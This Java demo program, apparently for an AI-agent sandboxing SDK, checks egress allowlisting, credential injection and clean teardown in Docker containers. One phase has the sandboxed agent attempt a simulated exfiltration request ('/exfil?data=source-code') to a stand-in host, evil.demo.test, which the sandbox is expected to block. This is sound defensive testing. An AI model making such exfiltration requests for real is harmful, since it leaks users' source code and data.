package dev.bottles.examples.demo;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bottles.BottleEvent;
import dev.bottles.BottleListener;
import dev.bottles.BottleSpec;
import dev.bottles.Bottles;
import dev.bottles.ExecResult;
import dev.bottles.Phase;
import dev.bottles.RunningBottle;
import dev.bottles.claude.ClaudeCode;
import dev.bottles.claude.ClaudeEvent;
import dev.bottles.claude.ClaudeTask;
import dev.bottles.examples.demo.tool.DemoTool;
import dev.bottles.manifest.AgentDefinition;
import dev.bottles.manifest.BottleDefinition;
import dev.bottles.manifest.EgressRoute;
import dev.bottles.manifest.Manifest;
import dev.bottles.manifest.RouteAuth;
import dev.bottles.state.SecureFiles;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;

/**
 * The demo {@code ./bottle-demo} runs: a bottle on the docker backend whose bundle allows
 * {@code www.demo.test}, injects a credential for {@code api.demo.test} (paths under {@code /v1/})
 * and refuses everything else, with an upstream container answering to those names that the demo
 * starts itself. It shows an allowed request, a refused one with its reason, the credential
 * arriving upstream while the agent holds none, the bundle's decision log, and a teardown that
 * leaves nothing. Each phase prints one line with its time.
 *
 * <p>Arguments: {@code AGENT_IMAGE CERTS_DIR}: the demo image (busybox, a Java runtime, the demo
 * tool) and a directory with {@code demo.p12} (the upstream's key) and {@code demo-ca.pem} (its
 * certificate, which egress is told to trust).
 */
public final class BottleDemo {
    private static final String TOOL = "/opt/demo-tool.jar";
    private static final String FAKE_API = "/opt/fake-anthropic.jar";
    private final String image;
    private final Path certs;
    private final List<String> failures = new ArrayList<>();

    private BottleDemo(String image, Path certs) {
        this.image = image;
        this.certs = certs;
    }

    /**
     * Runs the demo; exits 0 when every check held.
     *
     * @param args the demo image and the certificates directory
     * @throws Exception when the demo cannot run at all
     */
    public static void main(String[] args) throws Exception {
        if (args.length != 2) {
            System.err.println("usage: BottleDemo AGENT_IMAGE CERTS_DIR (./bottle-demo prepares both)");
            System.exit(2);
        }
        System.exit(new BottleDemo(args[0], Path.of(args[1])).run());
    }

    private int run() throws Exception {
        String token = "demo-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(16));
        Path home = Files.createTempDirectory("bottles-demo-home-");
        Manifest manifest = Manifest.builder()
                .bottle(BottleDefinition.builder("demo")
                        .route(EgressRoute.to("www.demo.test"))
                        .route(EgressRoute.to("api.demo.test")
                                .withPaths("/v1/")
                                .withAuth(RouteAuth.bearer("DEMO_TOKEN")))
                        .build())
                .agent(AgentDefinition.builder("demo").bottle("demo").build())
                .build();
        Map<String, String> env = new HashMap<>(System.getenv());
        env.put("DEMO_TOKEN", token);
        BottleSpec spec = BottleSpec.builder("demo")
                .manifest(manifest)
                .home(home)
                .userCwd(home)
                .backend("docker")
                .hostEnvironment(env)
                .setting("CLAUDE_BOTTLE_IMAGE", image)
                .setting(
                        "CLAUDE_BOTTLE_EGRESS_EXTRA_CA",
                        certs.resolve("demo-ca.pem").toString())
                .listener(progressLines())
                .build();
        RunningBottle bottle = phase(
                "launch the bottle (network, bundle, agent)",
                () -> Bottles.prepare(spec).launch());
        String id = bottle.identity();
        String upstream = "bottles-demo-upstream-" + id;
        try {
            JsonNode plan = new ObjectMapper().readTree(bottle.plan().toJson());
            say("bottle " + id + ": agent on " + plan.get("internal_network").asText() + " (internal, no route out),"
                    + " bundle " + plan.get("bundle").asText() + " ("
                    + plan.get("daemons").asText() + ")");
            phase("start the demo upstream (www/api/evil.demo.test)", () -> {
                docker(
                        "run",
                        "-d",
                        "--name",
                        upstream,
                        "--label",
                        "dev.bottles.identity=" + id,
                        "--label",
                        "dev.bottles.backend=demo",
                        "--label",
                        "dev.bottles.role=demo-upstream",
                        "--network",
                        plan.get("egress_network").asText(),
                        "--network-alias",
                        "www.demo.test",
                        "--network-alias",
                        "api.demo.test",
                        "--network-alias",
                        "evil.demo.test",
                        "-v",
                        certs + ":/certs:ro",
                        "--entrypoint",
                        "/opt/java/bin/java",
                        image,
                        "-jar",
                        TOOL,
                        "serve");
                waitFor(() -> docker("logs", upstream).contains("demo upstream ready"), "the upstream to start");
            });

            String allowed = phase(
                    "allowed: the agent fetches http://www.demo.test/hello",
                    () -> fetch(bottle, "http://www.demo.test/hello"));
            say("  agent got: " + allowed);
            check(allowed.startsWith("200 hello from the demo upstream"), "the allowed host answered");

            String blocked = phase(
                    "blocked: the agent tries http://evil.demo.test/exfil",
                    () -> fetch(bottle, "http://evil.demo.test/exfil?data=source-code"));
            say("  agent got: " + blocked);
            check(
                    blocked.startsWith("403 blocked: host evil.demo.test is not on this bottle's allowlist"),
                    "the blocked host was refused with its reason");

            String inside = bottle.exec("sh", "-c", "echo \"${DEMO_TOKEN:-(unset)}\"")
                    .stdout()
                    .strip();
            String injected = phase(
                    "credential: the agent calls https://api.demo.test/v1/whoami with 'Bearer fake'",
                    () -> fetch(bottle, "https://api.demo.test/v1/whoami", "Authorization=Bearer fake"));
            say("  agent got: " + injected);
            say("  DEMO_TOKEN inside the bottle: " + inside);
            String want = DemoTool.fingerprint("Bearer " + token);
            String seen = docker("logs", upstream)
                    .lines()
                    .filter(l -> l.contains("/v1/whoami"))
                    .findFirst()
                    .orElse("");
            say("  upstream saw: " + seen);
            say("  sha256 of 'Bearer $DEMO_TOKEN' on the host: " + want);
            check(
                    injected.startsWith("200 ") && seen.endsWith("auth=" + want),
                    "the upstream received the host's token, not the agent's");
            check(inside.equals("(unset)"), "the agent holds no token");
            String outside = fetch(bottle, "https://api.demo.test/admin");
            say("  outside /v1/: " + outside);
            check(outside.startsWith("403 blocked: path /admin"), "a path outside the route was refused");

            phase("decision log (the bundle's JSON lines)", () -> {
                String logs = docker("logs", "claude-bottle-sidecars-" + id);
                ObjectMapper json = new ObjectMapper();
                for (String line : logs.split("\n")) {
                    if (line.contains("\"event\":\"decision\"")) {
                        JsonNode d = json.readTree(line);
                        say(String.format(
                                "  %-8s %-7s %-16s %-22s %s",
                                d.get("verdict").asText(),
                                d.get("method").asText(),
                                d.get("host").asText(),
                                d.path("path").asText(""),
                                shorten(d.path("mode").asText(d.get("reason").asText()))));
                    }
                }
            });
        } finally {
            String left = tearDown("teardown", upstream, bottle);
            check(left.isBlank(), "nothing is left behind");
            say(
                    left.isBlank()
                            ? "nothing left behind: no container or network carries dev.bottles.identity=" + id
                            : "left behind: " + left);
            SecureFiles.deleteRecursively(home);
        }
        claudeCode(certs, token);
        if (failures.isEmpty()) {
            say("demo done: every check held");
            return 0;
        }
        say("demo FAILED: " + String.join("; ", failures));
        return 1;
    }

    /**
     * Real Claude Code in a bottle of its own (the SDK's agent image, built on first use) answering
     * a prompt through egress, against a fake Anthropic API the demo starts on the bottle's outbound
     * network, since nothing here reaches the internet. The host's token reaches the fake; the agent
     * holds a placeholder.
     */
    private void claudeCode(Path certs, String token) throws Exception {
        Path home = Files.createTempDirectory("bottles-demo-claude-");
        Map<String, String> env = new HashMap<>(System.getenv());
        env.put(Manifest.CLAUDE_TOKEN_ENV, token);
        BottleSpec spec = BottleSpec.builder(Manifest.CLAUDE)
                .home(home)
                .userCwd(home)
                .backend("docker")
                .hostEnvironment(env)
                .setting(
                        "CLAUDE_BOTTLE_EGRESS_EXTRA_CA",
                        certs.resolve("demo-ca.pem").toString())
                .listener(progressLines())
                .build();
        RunningBottle bottle = phase(
                "launch a Claude Code bottle (the built-in 'claude' agent, the SDK's image)",
                () -> Bottles.prepare(spec).launch());
        String id = bottle.identity();
        String api = "bottles-demo-anthropic-" + id;
        try {
            JsonNode plan = new ObjectMapper().readTree(bottle.plan().toJson());
            say("  image " + plan.get("base_image").asText() + " with Claude Code "
                    + plan.path("claude_code_version").asText("?"));
            phase("start a fake Anthropic API as api.anthropic.com (nothing reaches the internet)", () -> {
                docker(
                        "run",
                        "-d",
                        "--name",
                        api,
                        "--label",
                        "dev.bottles.identity=" + id,
                        "--label",
                        "dev.bottles.backend=demo",
                        "--label",
                        "dev.bottles.role=demo-upstream",
                        "--network",
                        plan.get("egress_network").asText(),
                        "--network-alias",
                        "api.anthropic.com",
                        "-v",
                        certs + ":/certs:ro",
                        "--entrypoint",
                        "/opt/java/bin/java",
                        image,
                        "-cp",
                        FAKE_API,
                        "dev.bottles.testkit.FakeAnthropicApi",
                        "--tls",
                        "/certs/demo.p12",
                        "--password",
                        "demo-store",
                        "--text",
                        "Hello from Claude Code in a bottle.");
                waitFor(() -> docker("logs", api).contains("fake anthropic api ready"), "the fake API to start");
            });
            ClaudeEvent.Result r = phase(
                    "Claude Code answers a prompt (headless, stream-json)",
                    () -> ClaudeCode.in(bottle)
                            .run(
                                    ClaudeTask.of("Say hello from the bottle.").withTimeout(Duration.ofMinutes(3)),
                                    e -> say("  event: " + shorten(e.toString()))));
            say("  Claude Code said: " + r.text());
            check(!r.isError() && r.text().equals("Hello from Claude Code in a bottle."), "real Claude Code answered");
            String want = DemoTool.fingerprint("Bearer " + token);
            List<String> seen = docker("logs", api)
                    .lines()
                    .filter(l -> l.startsWith("seen "))
                    .toList();
            seen.forEach(l -> say("  fake API " + l));
            check(
                    seen.stream().anyMatch(l -> l.contains("/v1/messages") && l.contains("cred=" + want)),
                    "the fake API received the host's token, injected by egress");
            String inside = bottle.exec("/bin/sh", "-c", "echo \"$CLAUDE_CODE_OAUTH_TOKEN\"")
                    .stdout()
                    .strip();
            say("  CLAUDE_CODE_OAUTH_TOKEN inside the bottle: " + inside);
            check(inside.equals("egress-placeholder") && !inside.contains(token), "the agent holds only a placeholder");
        } finally {
            String left = tearDown("teardown of the Claude Code bottle", api, bottle);
            check(left.isBlank(), "nothing of the Claude Code bottle is left behind");
            SecureFiles.deleteRecursively(home);
        }
    }

    /** Removes the demo's upstream container, closes the bottle, and returns what still carries its label. */
    private static String tearDown(String phaseName, String upstream, RunningBottle bottle) throws Exception {
        phase(phaseName, () -> {
            docker("rm", "-f", upstream);
            bottle.close();
        });
        String id = bottle.identity();
        return docker("ps", "-a", "-q", "--filter", "label=dev.bottles.identity=" + id)
                + docker("network", "ls", "-q", "--filter", "label=dev.bottles.identity=" + id);
    }

    private static BottleListener progressLines() {
        return new BottleListener() {
            @Override
            public void onEvent(BottleEvent event) {
                if (event.phase() == Phase.LAUNCH
                        && !event.step().equals("launch")
                        && event.duration().toMillis() >= 300) {
                    say("  step " + event.step() + ": " + event.duration().toMillis() + " ms");
                }
            }

            @Override
            public void onProgress(String identity, String step, String line) {
                if (step.equals("bundle-image") && (line.startsWith("building") || line.startsWith("jlink"))) {
                    say("  bundle image: " + line);
                }
                if (step.equals("agent-image") && (line.startsWith("building") || line.startsWith("fetching"))) {
                    say("  agent image: " + line);
                }
            }
        };
    }

    private static String shorten(String s) {
        return s.length() <= 70 ? s : s.substring(0, 67) + "...";
    }

    private static String fetch(RunningBottle b, String... args) {
        List<String> argv =
                new ArrayList<>(List.of("java", "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC", "-jar", TOOL, "fetch"));
        argv.addAll(List.of(args));
        ExecResult r = b.exec(argv);
        return (r.stdout() + r.stderr()).strip();
    }

    private void check(boolean ok, String what) {
        if (!ok) {
            failures.add(what);
        }
        say("  " + (ok ? "✓ " : "✗ ") + what);
    }

    @FunctionalInterface
    private interface Step<T> {
        T run() throws Exception;
    }

    private interface Action {
        void run() throws Exception;
    }

    private static void phase(String name, Action action) throws Exception {
        phase(name, () -> {
            action.run();
            return Boolean.TRUE;
        });
    }

    private static <T> T phase(String name, Step<T> step) throws Exception {
        long t0 = System.nanoTime();
        say("[demo] " + name + " ...");
        T t = step.run();
        say("[demo] " + name + ": " + (System.nanoTime() - t0) / 1_000_000 + " ms");
        return t;
    }

    private static void waitFor(Supplier<Boolean> condition, String what) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (!condition.get()) {
            if (System.nanoTime() > deadline) {
                throw new IllegalStateException("timed out waiting for " + what);
            }
            Thread.sleep(100);
        }
    }

    private static String docker(String... args) {
        List<String> argv = new ArrayList<>(List.of("docker"));
        argv.addAll(List.of(args));
        try {
            Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
            String out;
            try (InputStream in = p.getInputStream()) {
                out = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            }
            p.waitFor(120, TimeUnit.SECONDS);
            if (p.exitValue() != 0 && !args[0].equals("rm")) {
                throw new IllegalStateException(String.join(" ", argv) + " failed: " + out.strip());
            }
            return out;
        } catch (IOException e) {
            throw new IllegalStateException("cannot run docker (" + e.getMessage() + "); install its CLI", e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static void say(String line) {
        System.out.println(line);
        System.out.flush();
    }
}
